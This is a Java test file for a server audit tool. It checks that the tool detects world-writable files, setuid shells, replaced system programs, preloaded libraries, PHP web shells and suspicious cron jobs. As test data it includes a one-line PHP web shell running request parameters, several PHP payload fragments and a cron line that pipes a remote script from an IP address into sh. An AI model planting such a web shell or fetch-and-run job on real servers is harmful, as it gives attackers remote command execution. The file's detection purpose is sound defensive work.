package dev.exhume.core.analysis.audit;

import static dev.exhume.testdata.DeadServers.server;
import static org.assertj.core.api.Assertions.assertThat;

import dev.exhume.core.profile.Customisation;
import dev.exhume.core.profile.Customisation.Intervention;
import dev.exhume.core.profile.Customisation.ModifiedFile;
import dev.exhume.core.profile.Evidence;
import dev.exhume.core.profile.Finding;
import dev.exhume.core.profile.Severity;
import dev.exhume.testdata.ServerBuilder;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FileAuditTest {
  private static final String SHELL = "<?php set_time_limit(0); system($_GET['c']);";

  @Test
  void aFileOfTheSystemThatEverybodyMayWriteIsFound() {
    ServerBuilder server =
        server()
            .file("/usr/bin/tool", "")
            .mode("/usr/bin/tool", 0777)
            .directory("/usr/share/drop")
            .mode("/usr/share/drop", 01777)
            .file("/srv/upload", "")
            .mode("/srv/upload", 0666);
    assertThat(AuditedServer.of(server).finding("world-writable"))
        .map(Finding::evidence)
        .hasValueSatisfying(
            places -> assertThat(places).containsExactly(Evidence.file("/usr/bin/tool")));
  }

  @Test
  void aCopyThatLostTheRightsSaysNothingOfThem() {
    ServerBuilder server = server();
    for (int i = 0; i < 60; i++) {
      server.file("/usr/bin/tool" + i, "").mode("/usr/bin/tool" + i, 0777);
    }
    assertThat(AuditedServer.of(server).finding("world-writable")).isEmpty();
  }

  @Test
  void filesOfUsersWithoutAnAccountAreCounted() {
    ServerBuilder server =
        server()
            .file("/etc/passwd", "root:x:0:0::/root:/bin/sh", "joe:x:500:500::/home/joe:/bin/sh")
            .file("/home/old/a", "")
            .owner("/home/old/a", 501, 501)
            .file("/home/joe/b", "")
            .owner("/home/joe/b", 500, 500);
    assertThat(AuditedServer.of(server).finding("unknown-owner"))
        .map(Finding::title)
        .contains("1 files belong to users without an account: 501");
  }

  @Test
  void aCopyThatBelongsToWhoeverMadeItHasNoUnknownOwners() {
    ServerBuilder server = server().file("/etc/passwd", "root:x:0:0::/root:/bin/sh");
    for (int i = 0; i < 20; i++) {
      server.file("/home/" + i, "").owner("/home/" + i, 1000, 1000);
    }
    assertThat(AuditedServer.of(server).finding("unknown-owner")).isEmpty();
  }

  @Test
  void aProgramOfRootInAHomeIsSuspiciousAndOneInUsrLocalIsNot() {
    assertThat(setuid("/home/joe/.x", "4755, runs as user 0").finding("suspicious-setuid"))
        .map(Finding::severity)
        .contains(Severity.HIGH);
    assertThat(setuid("/usr/local/bin/bash", "4755, runs as user 0").finding("suspicious-setuid"))
        .isPresent();
    AuditedServer own = setuid("/usr/local/bin/backup", "4755, runs as user 0");
    assertThat(own.finding("suspicious-setuid")).isEmpty();
    assertThat(own.finding("unowned-setuid")).map(Finding::severity).contains(Severity.LOW);
  }

  @Test
  void aShellThatGotTheSetUserIdBitIsSuspicious() {
    ServerBuilder server = server().file("/bin/bash", "").file("/usr/bin/passwd", "");
    server.mode("/bin/bash", 04755).mode("/usr/bin/passwd", 04755);
    assertThat(
            AuditedServer.of(server)
                .changed(modified("mode", "/bin/bash", "/usr/bin/passwd"))
                .finding("setuid-shell"))
        .map(Finding::evidence)
        .hasValueSatisfying(
            places -> assertThat(places).containsExactly(Evidence.file("/bin/bash")));
    server.mode("/bin/bash", 0700);
    assertThat(
            AuditedServer.of(server).changed(modified("mode", "/bin/bash")).finding("setuid-shell"))
        .isEmpty();
  }

  @Test
  void aFileAmongTheDevicesIsFoundUnlessSystemsKeepSuchThere() {
    assertThat(
            AuditedServer.of(
                    server()
                        .file("/dev/ptyp", "hidden")
                        .file("/dev/MAKEDEV", "#!/bin/sh")
                        .file("/dev/.udev/db/x", "N:sda")
                        .bytes("/dev/null"))
                .finding("file-among-devices"))
        .map(Finding::evidence)
        .hasValueSatisfying(
            places -> assertThat(places).containsExactly(Evidence.file("/dev/ptyp")));
  }

  @Test
  void aPreloadedLibraryIsNamedWithItsLineAndAnEmptyFileIsNone() {
    assertThat(
            AuditedServer.of(server().file("/etc/ld.so.preload", "", "/lib/libproc.so.2"))
                .finding("preloaded-library"))
        .map(Finding::evidence)
        .hasValueSatisfying(
            places -> assertThat(places).containsExactly(Evidence.line("/etc/ld.so.preload", 2)));
    assertThat(
            AuditedServer.of(server().file("/etc/ld.so.preload", "# none"))
                .finding("preloaded-library"))
        .isEmpty();
  }

  @Test
  void directoriesThatAListingHidesAreFoundAndHiddenOnesOfUsersAreNot() {
    assertThat(
            AuditedServer.of(server().directory("/tmp/...").directory("/root/.ssh"))
                .finding("disguised-directory"))
        .map(Finding::evidence)
        .hasValueSatisfying(
            places -> assertThat(places).containsExactly(Evidence.file("/tmp/...")));
    assertThat(AuditedServer.of(server().directory("/root/..a")).finding("disguised-directory"))
        .isEmpty();
  }

  @Test
  void programsThatRootkitsReplaceAreFoundIfTheirContentDiffers() {
    AuditedServer server = AuditedServer.of(server());
    assertThat(server.changed(modified("digest", "/bin/ps", "/usr/bin/foo")).findings())
        .filteredOn(finding -> finding.id().equals("replaced-program"))
        .singleElement()
        .satisfies(
            finding -> {
              assertThat(finding.title()).endsWith(": /bin/ps");
              assertThat(finding.severity()).isEqualTo(Severity.HIGH);
            });
    assertThat(server.changed(modified("mode", "/bin/ps")).finding("replaced-program")).isEmpty();
  }

  @Test
  void aScriptThatRunsWhatCallersSendIsFoundInADocumentRoot() {
    assertThat(web("/var/www/html/uploads/x.php", SHELL).finding("web-shell"))
        .map(Finding::severity)
        .contains(Severity.MEDIUM);
    assertThat(web("/root/x.php", SHELL).finding("web-shell")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<?php system('ls'); set_time_limit(0);",
        "<?php $x = base64_decode($_POST['x']); error_reporting(0);",
        "<?php exec($_GET['c']);",
        "<?php echo eval('return 1;'); set_time_limit(0); error_reporting(0);"
      })
  void oneSignAloneIsNotEnough(String script) {
    assertThat(web("/var/www/html/index.php", script).finding("web-shell")).isEmpty();
  }

  @Test
  void aHugeScriptOfOneLineIsReadToABound() {
    assertThat(
            web("/var/www/html/big.php", "<?php eval(" + "(".repeat(2 << 20)).finding("web-shell"))
        .isEmpty();
  }

  @Test
  void jobsThatRunWhatTheyFetchAreSuspiciousAndBackupsAreNot() {
    assertThat(
            AuditedServer.of(server())
                .job("root", "wget -q -O - http://10.9.8.7/x.sh | sh")
                .finding("suspicious-job"))
        .isPresent();
    assertThat(AuditedServer.of(server()).job("joe", "/tmp/.x/y").finding("suspicious-job"))
        .isPresent();
    AuditedServer usual =
        AuditedServer.of(server())
            .job("root", "wget -q -O /dev/null http://localhost/cron.php")
            .job("root", "mysqldump shop | gzip > /tmp/shop.gz");
    assertThat(usual.finding("suspicious-job")).isEmpty();
    assertThat(usual.finding("web-user-job")).isEmpty();
  }

  @Test
  void jobsOfTheWebServersAccountAreToldAsWhatTheyMayBe() {
    assertThat(
            AuditedServer.of(server())
                .job("apache", "php /var/www/cron.php")
                .finding("web-user-job"))
        .map(Finding::severity)
        .contains(Severity.LOW);
  }

  private static AuditedServer web(String file, String script) {
    return AuditedServer.of(server().file(file, script))
        .opens("httpd", "web")
        .serves("/var/www/html", Optional.empty());
  }

  private static AuditedServer setuid(String path, String detail) {
    return AuditedServer.of(server())
        .changed(
            new Customisation(
                Optional.empty(),
                Optional.empty(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(new Intervention("setuid-program", path, detail, Evidence.file(path)))));
  }

  private static Customisation modified(String change, String... paths) {
    return new Customisation(
        Optional.of(
            List.of(paths).stream()
                .map(path -> new ModifiedFile(path, "some", List.of(change), false))
                .toList()),
        Optional.empty(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of());
  }
}
